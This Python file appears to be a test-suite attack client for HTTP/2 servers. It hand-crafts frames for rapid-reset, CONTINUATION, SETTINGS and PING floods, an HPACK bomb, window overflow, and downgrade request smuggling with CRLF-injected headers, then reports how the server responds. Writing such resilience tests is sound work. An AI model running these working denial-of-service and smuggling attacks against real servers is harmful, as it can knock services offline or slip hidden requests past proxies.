"""An abusive HTTP/2 client for the reliability suite's attack tests.

Frames are written by hand with hyperframe and hpack (no h2 state machine), so the client can
send what a conforming client never would. It prints one JSON object describing what the server
did:

    /usr/bin/python3 attack-h2-peer.py <host> <port> <scenario> [count]

As a meshed peer (mTLS, then a transport header, then HTTP/2), set ATTACK_TLS_CERT, ATTACK_TLS_KEY
and ATTACK_TLS_CA (PEM files), ATTACK_TLS_SNI (the server's identity), ATTACK_TLS_ALPN and
ATTACK_PREFIX_HEX (bytes written before the HTTP/2 preface). ATTACK_EXTRA_HEADER="name: value"
adds a field to every request (e.g. `l5d-orig-proto: HTTP/1.1`, asking for a downgrade).

Fields: goaway (error code or null), resets ({stream id: error code}), statuses ({stream id:
status}), eof (the server closed the connection), writeFailed (the server closed while we were
still writing), sent (frames or streams of the attack that were written before the server cut us
off), plus anything scenario-specific.
"""

import json
import os
import select
import socket
import ssl
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
AUTHORITY = os.environ.get("ATTACK_AUTHORITY", "h2.attack.test")
EXTRA = [tuple(part.strip() for part in os.environ["ATTACK_EXTRA_HEADER"].split(":", 1))] if os.environ.get("ATTACK_EXTRA_HEADER") else []


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if os.environ.get("ATTACK_TLS_CERT"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.load_cert_chain(os.environ["ATTACK_TLS_CERT"], os.environ["ATTACK_TLS_KEY"])
        context.load_verify_locations(os.environ["ATTACK_TLS_CA"])
        context.set_alpn_protocols([os.environ.get("ATTACK_TLS_ALPN", "transport.l5d.io/v1")])
        sock = context.wrap_socket(sock, server_hostname=os.environ["ATTACK_TLS_SNI"])
    prefix = os.environ.get("ATTACK_PREFIX_HEX")
    if prefix:
        sock.sendall(bytes.fromhex(prefix))
    return sock


class Client:
    def __init__(self, host, port):
        self.sock = connect(host, port)
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.inbox = b""
        self.block = b""
        self.out = {
            "goaway": None,
            "resets": {},
            "statuses": {},
            "eof": False,
            "writeFailed": False,
            "sent": 0,
        }
        self.write(PREFACE + SettingsFrame(0).serialize())

    def write(self, data):
        if self.out["writeFailed"]:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.out["writeFailed"] = True
            return False

    def headers(self, stream_id, fields, end_stream=True, end_headers=True):
        frame = HeadersFrame(stream_id)
        frame.data = self.encoder.encode(fields)
        if end_stream:
            frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return frame.serialize()

    def request(self, stream_id, path, extra=(), end_stream=True):
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", AUTHORITY), (":path", path)]
        return self.headers(stream_id, fields + EXTRA + list(extra), end_stream=end_stream)

    def pump(self, seconds, until=None):
        """Reads frames for up to `seconds` of silence, until EOF or `until()` holds."""
        deadline = time.monotonic() + seconds
        while not self.out["eof"]:
            if until is not None and until():
                return
            left = deadline - time.monotonic()
            if left <= 0:
                return
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending() > 0
            ready, _, _ = ([self.sock], [], []) if pending else select.select([self.sock], [], [], left)
            if not ready:
                return
            try:
                chunk = self.sock.recv(65536)
            except (OSError, ssl.SSLError):
                chunk = b""
            if not chunk:
                self.out["eof"] = True
                return
            deadline = time.monotonic() + seconds
            self.inbox += chunk
            self.parse()

    def parse(self):
        while len(self.inbox) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbox[:9]))
            if len(self.inbox) < 9 + length:
                return
            frame.parse_body(memoryview(self.inbox[9 : 9 + length]))
            self.inbox = self.inbox[9 + length :]
            self.on_frame(frame)

    def on_frame(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.out["goaway"] = frame.error_code
            self.out["lastStreamId"] = frame.last_stream_id
        elif isinstance(frame, RstStreamFrame):
            self.out["resets"][str(frame.stream_id)] = frame.error_code
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self.block += frame.data
            if "END_HEADERS" in frame.flags:
                fields = self.decoder.decode(self.block)
                self.block = b""
                for name, value in fields:
                    if name in (":status", b":status"):
                        status = value.decode() if isinstance(value, bytes) else value
                        self.out["statuses"][str(frame.stream_id)] = int(status)


def rapid_reset(c, count):
    """CVE-2023-44487: open streams and cancel each at once, never waiting for a response."""
    for i in range(count):
        sid = 1 + 2 * i
        if not c.write(c.request(sid, "/rapid-reset", end_stream=False) + RstStreamFrame(sid, CANCEL).serialize()):
            break
        c.out["sent"] += 1
        if i % 50 == 0:
            c.pump(0.001)
            if c.out["eof"]:
                break
    c.pump(3)


def continuation_flood(c, count):
    """CVE-2024-27983 class: one header block that never ends, in CONTINUATION frames."""
    c.write(c.headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", AUTHORITY), (":path", "/")], end_stream=True, end_headers=False))
    filler = Encoder()
    for i in range(count):
        frame = ContinuationFrame(1)
        frame.data = filler.encode([("x-flood-%d" % i, "v" * 4000)], huffman=False)
        if not c.write(frame.serialize()):
            break
        c.out["sent"] += 1
        if i % 20 == 0:
            c.pump(0.001)
            if c.out["eof"]:
                break
    c.pump(3)


def ack_flood(c, count, make):
    """SETTINGS or PING frames whose ACKs we never read: the server's output queue must not grow unbounded."""
    batch = b"".join(make(i) for i in range(100))
    for i in range(0, count, 100):
        if not c.write(batch):
            break
        c.out["sent"] += 100
    c.pump(3)


def hpack_bomb(c, count):
    """A 3.5 KB header put into the dynamic table once, then referenced `count` times in one block."""
    value = "b" * 3500
    c.write(c.request(1, "/hpack-seed", [("x-bomb", value)]))
    c.pump(2, until=lambda: "1" in c.out["statuses"])
    block = c.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", AUTHORITY), (":path", "/hpack-bomb")])
    # The encoder indexed x-bomb with the seed request, then the fields above: find where it is
    # now (dynamic entries start at index 62, newest first).
    position = None
    for i, (name, _) in enumerate(c.encoder.header_table.dynamic_entries):
        if name in (b"x-bomb", "x-bomb"):
            position = 62 + i
    if position is None:
        raise SystemExit("x-bomb not in the dynamic table")
    index = bytes([0x80 | position]) if position < 127 else bytes([0xFF, position - 127])
    block += index * count
    c.out["decodedBytes"] = count * (len("x-bomb") + len(value))
    c.out["encodedBytes"] = len(block)
    pos = 0
    first = True
    while pos < len(block):
        piece = block[pos : pos + 16000]
        pos += len(piece)
        last = pos >= len(block)
        frame = HeadersFrame(3) if first else ContinuationFrame(3)
        if first:
            frame.flags.add("END_STREAM")
        if last:
            frame.flags.add("END_HEADERS")
        frame.data = piece
        first = False
        if not c.write(frame.serialize()):
            break
        c.out["sent"] += 1
    c.pump(3, until=lambda: "3" in c.out["statuses"] or "3" in c.out["resets"] or c.out["goaway"] is not None)
    c.pump(0.5)


def window_overflow(c, where):
    """CVE-2026-21714 class: WINDOW_UPDATE increments that push a window past 2^31-1."""
    sid = 0
    if where == "stream":
        sid = 1
        c.write(c.request(1, "/window", end_stream=False))
    c.write(WindowUpdateFrame(sid, 2**31 - 1).serialize() + WindowUpdateFrame(sid, 2**31 - 1).serialize())
    c.out["sent"] = 2
    c.pump(3)


def downgrade(c, variant):
    """H2→H1 downgrade smuggling (RFC 9113 §8.2): each request below is malformed and must not be forwarded."""
    smuggled = "GET /smuggled HTTP/1.1\r\nhost: app.attack.test\r\n\r\n"
    post = [(":method", "POST"), (":scheme", "http"), (":authority", AUTHORITY), (":path", "/downgrade-" + variant)] + EXTRA
    if variant == "te":
        frames = c.headers(1, post + [("transfer-encoding", "chunked")], end_stream=False)
        body = "0\r\n\r\n" + smuggled
    elif variant == "cl":
        frames = c.headers(1, post + [("content-length", "0")], end_stream=False)
        body = smuggled
    elif variant == "connection":
        frames = c.headers(1, post + [("connection", "keep-alive")], end_stream=False)
        body = "x"
    elif variant == "crlf-value":
        frames = c.headers(1, post + [("x-inject", "a\r\n\r\n" + smuggled)], end_stream=False)
        body = "x"
    elif variant == "crlf-name":
        frames = c.headers(1, post + [("x-a\r\ntransfer-encoding", "chunked")], end_stream=False)
        body = "x"
    elif variant == "uppercase":
        frames = c.headers(1, post + [("Transfer-Encoding", "chunked")], end_stream=False)
        body = "x"
    else:
        raise SystemExit("unknown downgrade variant " + variant)
    data = DataFrame(1)
    data.data = body.encode()
    data.flags.add("END_STREAM")
    c.write(frames + data.serialize())
    c.out["sent"] = 1
    c.pump(2, until=lambda: "1" in c.out["resets"] or "1" in c.out["statuses"] or c.out["goaway"] is not None)
    # A well-formed request on the same connection afterwards tells whether it survived.
    c.write(c.request(3, "/after-downgrade"))
    c.pump(2, until=lambda: "3" in c.out["statuses"] or "3" in c.out["resets"])


def main():
    host, port, scenario = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    arg = sys.argv[4] if len(sys.argv) > 4 else "0"
    c = Client(host, port)
    started = time.monotonic()
    if scenario == "rapid-reset":
        rapid_reset(c, int(arg))
    elif scenario == "continuation-flood":
        continuation_flood(c, int(arg))
    elif scenario == "settings-flood":
        ack_flood(c, int(arg), lambda i: SettingsFrame(0, settings={0x4: 65535}).serialize())
    elif scenario == "ping-flood":
        ack_flood(c, int(arg), lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
    elif scenario == "hpack-bomb":
        hpack_bomb(c, int(arg))
    elif scenario == "window-overflow":
        window_overflow(c, arg)
    elif scenario == "downgrade":
        downgrade(c, arg)
    else:
        raise SystemExit("unknown scenario " + scenario)
    c.out["elapsedMs"] = round((time.monotonic() - started) * 1000)
    c.sock.close()
    print(json.dumps(c.out))


if __name__ == "__main__":
    main()
